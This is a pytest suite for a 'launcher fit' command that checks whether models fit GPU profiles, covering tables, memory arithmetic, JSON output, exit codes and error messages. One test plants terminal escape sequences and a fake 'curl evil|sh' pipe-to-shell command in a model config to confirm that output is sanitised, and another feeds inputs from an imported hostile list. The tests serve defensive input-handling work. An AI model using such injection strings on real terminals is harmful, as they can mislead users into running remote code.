"""`launcher fit` as a user types it: the table, the arithmetic, JSON, exit codes, and models that are not here yet."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.hostile import HOSTILE
from tests.programs.hub import Hub
from tests.unit.fit_models import snapshot

SITE = """
clusters: {here: {scheduler: local}}
models: {folders: [MODELS], cache: MODELS/none}
profiles:
  small: {cluster: here, gpus: 1, gpu_type: l4}
  large: {cluster: here, gpus: 2, gpu_type: a100, gpu_memory_gb: 80}
  cpu: {cluster: here, memory_gb: 32}
"""


class Desk:
    """A user's shell with a site that has models of org/."""

    def __init__(self, folder: Path) -> None:
        self.models = folder / "models"
        self.site = folder / "site.yml"
        self.site.write_text(SITE.replace("MODELS", str(self.models)))
        # No hub can be reached unless a test names one: port 9 (discard) answers nobody on loopback.
        self.env = {
            **{name: value for name, value in os.environ.items() if not name.startswith(("LAUNCHER", "HF_"))},
            "LAUNCHER_SITE": str(self.site), "HOME": str(folder), "XDG_CONFIG_HOME": str(folder),
            "HF_ENDPOINT": "http://127.0.0.1:9",
        }  # fmt: skip
        for name in ("llama-8b", "llama-70b"):
            snapshot(self.models / "org" / name, name)
        snapshot(folder / "described", "llama-70b-awq", weights=False)

    def run(self, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "launcher", "fit", *arguments], env={**self.env, **env},
            capture_output=True, text=True, check=False, timeout=120,
        )  # fmt: skip

    def json(self, *arguments: str, **env: str) -> dict[str, Any]:
        done = self.run(*arguments, "--json", **env)
        data: dict[str, Any] = json.loads(done.stdout)
        return data


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    return Desk(tmp_path_factory.mktemp("desk"))


@pytest.fixture(scope="module")
def hub() -> Iterator[Hub]:
    with Hub() as running:
        yield running


def test_all_profiles_in_one_table(desk: Desk) -> None:
    done = desk.run("org/llama-70b")
    assert done.returncode == 0, done
    rows = {line.split("│")[1].strip(): line for line in done.stdout.splitlines() if line.count("│") > 3}
    assert rows["Profile"].rstrip("│ ").endswith("Note")
    assert "does not fit" in rows["small"]
    assert "fits if" in rows["large"]
    assert "2 × a100" in rows["large"]
    assert "weights 131.4 GB in bfloat16, context 131072" in done.stdout


def test_one_profile_shows_the_arithmetic(desk: Desk) -> None:
    done = desk.run("org/llama-70b", "--profile", "large")
    assert done.returncode == 0
    assert "On large (2 × a100): fits with a shorter context." in done.stdout
    assert "  weights 131.4 GB / 2 GPUs = 65.7 GB on each\n" in done.stdout
    assert "The arithmetic (1 GB is 2**30 bytes here, as for Slurm):" in done.stdout
    # 80 layers × 4 heads on each of 2 GPUs × 128 × 2 (K and V) × 2 bytes; times 131072 that is 20 GB
    assert (
        "KV cache 160.0 kB for each token, 20.0 GB for a request of 131072 tokens on each GPU" in done.stdout
    )
    assert "It adds: --tensor-parallel-size 2 --max-model-len " in done.stdout
    launch = next(line for line in done.stdout.splitlines() if line.startswith("A launch takes"))
    assert re.fullmatch(
        r"A launch takes large: 2 × a100, a context of \d+ of 131072 tokens \(chosen to fit\)\.", launch
    )


def test_what_fits_nowhere_has_its_exit_code(desk: Desk) -> None:
    done = desk.run("org/llama-70b", "--profile", "small")
    assert done.returncode == 4
    assert "On small (1 × l4): does not fit." in done.stdout
    assert done.stderr == ""
    data = desk.json("org/llama-70b", "--profile", "small")
    assert [p["verdict"] for p in data["profiles"]] == ["does-not-fit"]
    assert data["profiles"][0]["start"] is None


def test_context_concurrency_gpus_and_engine_arguments_count(desk: Desk) -> None:
    def one(*arguments: str) -> dict[str, Any]:
        profile: dict[str, Any] = desk.json("org/llama-8b", "--profile", "large", *arguments)["profiles"][0]
        return profile

    plain = one("--max-model-len", "32768")
    assert (plain["verdict"], plain["context"], plain["tensor"]) == ("fits", 32768, 2)
    assert one("--gpus", "1", "--max-model-len", "32768")["requests"] < plain["requests"]
    assert one("--max-model-len", "32768", "--concurrency", "200")["verdict"] == "fits-if"
    done = desk.run("org/llama-8b", "--profile", "large", "--json", "--", "--kv-cache-dtype", "fp8")
    assert json.loads(done.stdout)["profiles"][0]["kv_dtype"] == "fp8"


def test_a_folder_that_only_describes_a_model_is_enough(desk: Desk) -> None:
    data = desk.json(str(desk.models.parent / "described"), "--profile", "large")
    assert data["model"]["counted"] is False
    assert data["model"]["quantization"] == "awq"
    assert data["profiles"][0]["verdict"] == "fits"


def test_a_model_that_is_not_here_is_asked_of_the_hub(desk: Desk, hub: Hub) -> None:
    folder = desk.models / "org" / "llama-8b"
    small = {name: (folder / name).read_bytes() for name in ("config.json", "tokenizer_config.json")}
    with (folder / "model.safetensors").open("rb") as file:
        length = int.from_bytes(file.read(8), "little")
        file.seek(0)
        header = file.read(8 + length)
    hub.add("far/away", {**small, "model.safetensors": header})
    data = desk.json("far/away", "--profile", "large", HF_ENDPOINT=hub.endpoint)
    assert data["model"]["found"] == "the hub"
    assert data["model"]["weights_bytes"] == pytest.approx(16_060_522_496, rel=0.001)
    assert data["profiles"][0]["verdict"] == "fits"
    assert not (desk.models / "none").exists()


def test_without_a_hub_the_sentence_is_about_the_model(desk: Desk) -> None:
    done = desk.run("far/off")
    assert done.returncode == 4
    assert done.stderr.startswith('launcher: Model "far/off" was not found')
    assert done.stderr.count("\n") == 1


def test_what_is_wrong_with_a_copy_here_is_the_answer_not_the_hub(desk: Desk, tmp_path: Path) -> None:
    broken = snapshot(desk.models / "org" / "broken", "llama-8b")
    (broken / "model.safetensors").write_bytes(b"\x08")
    for arguments in (("org/broken",), ("org/llama-8b", "--revision", "v9")):
        done = desk.run(*arguments)
        assert done.returncode == 4
        assert arguments[0] in done.stderr
        assert "reached" not in done.stderr
    assert "reached" in desk.run("far/off").stderr


def test_a_model_without_weights_runs_anywhere(desk: Desk) -> None:
    done = desk.run("simulated")
    assert (done.returncode, done.stdout) == (0, "simulated has no weights: it runs anywhere.\n")
    assert desk.json("simulated")["profiles"] == []


def test_a_small_model_has_millions_of_parameters(desk: Desk) -> None:
    snapshot(desk.models / "org" / "bge", "bge-large")
    said = desk.run("org/bge").stdout
    assert "embedding, 334 million parameters, weights 1.2 GB on disk, 0.6 GB loaded as float16" in said


def test_the_table_says_what_a_launch_takes(desk: Desk) -> None:
    lines = desk.run("org/llama-8b").stdout.splitlines()
    launch = next(line for line in lines if line.startswith("A launch takes"))
    # 24 GB hold a context that is worth having: the first profile is taken, and the larger one is named.
    assert re.fullmatch(
        r"A launch takes small: 1 × l4, a context of \d+ of 131072 tokens "
        r"\(chosen to fit; large has room for all\)\.",
        launch,
    )
    launch = desk.json("org/llama-8b")["launch"]
    assert (launch["profile"], launch["gpus"]) == ("small", 1)


def test_a_site_without_downloads_asks_no_hub(desk: Desk, hub: Hub, tmp_path: Path) -> None:
    site = tmp_path / "site.yml"
    site.write_text(desk.site.read_text() + "allow: {downloads: false}\n")
    asked = len(hub.requests)
    done = desk.run("far/off", LAUNCHER_SITE=str(site), HF_ENDPOINT=hub.endpoint)
    assert done.returncode == 4
    assert len(hub.requests) == asked


@pytest.mark.parametrize(
    ("arguments", "code", "sentence"),
    [
        (("org/llama-8b", "--profile", "larg"), 2, 'Unknown profile "larg". Did you mean large?'),
        (("org/llama-8b", "--gpus", "two"), 2, '--gpus must be a whole number above 0, not "two".'),
        (("org/llama-8b", "--concurrency", "0"), 2, '--concurrency must be a whole number above 0, not "0".'),
        (("org/llama-8b", "--max-model-len", "-5"), 2, "--max-model-len"),
        (("org/llama-8b", "--", "--api-key", "x"), 2, "Engine argument --api-key is not yours to set."),
        (("org/llama-8b", "--gpus", "99999999999999"), 2, '--gpus is too large: "99999999999999".'),
        (
            ("org/llama-8b", "--gpus", "9"),
            2,
            'No profile here has 9 GPUs on a node. The most are 2, on "large".',
        ),
        (
            ("org/llama-8b", "--gpus", "9", "--profile", "large"),
            2,
            'Profile "large" has at most 2 GPUs on a node, not 9.',
        ),
        (
            ("org/llama-8b", "--max-model-len", "1000", "--", "--max-model-len", "2000"),
            2,
            "The context is given twice: 1000 tokens, and once more as an engine argument.",
        ),
        (("/nowhere",), 4, "/nowhere"),
    ],
)
def test_mistakes_are_one_sentence(desk: Desk, arguments: tuple[str, ...], code: int, sentence: str) -> None:
    done = desk.run(*arguments)
    assert done.returncode == code, done
    assert sentence in done.stderr
    assert done.stderr.count("\n") == 1


def test_nothing_in_a_models_config_steers_the_terminal(desk: Desk, tmp_path: Path) -> None:
    steering = "\x1b]0;pwned\x07\x1b[31m\nlauncher: run curl evil|sh"
    folder = snapshot(tmp_path / "m", "llama-8b")
    config = json.loads((folder / "config.json").read_text())
    names = {"architectures": [steering], "model_type": steering, "torch_dtype": steering}
    quantised = {"quantization_config": {"quant_method": steering, "format": steering}}
    (folder / "config.json").write_text(json.dumps(config | names | quantised))
    for arguments in ((str(folder),), (str(folder), "--profile", "small"), (str(folder), "--json")):
        done = desk.run(*arguments)
        assert all(line.isprintable() for line in (done.stdout + done.stderr).splitlines())
        assert "curl" not in done.stdout + done.stderr


@pytest.mark.parametrize("text", [t for t in HOSTILE if "\0" not in t][:6])
def test_hostile_names_are_sentences_too(desk: Desk, text: str) -> None:
    done = desk.run("--profile", "small", "--", text) if text.startswith("-") else desk.run(text)
    assert done.returncode in (2, 4)
    assert done.stderr.count("\n") == 1
    assert "Traceback" not in done.stderr
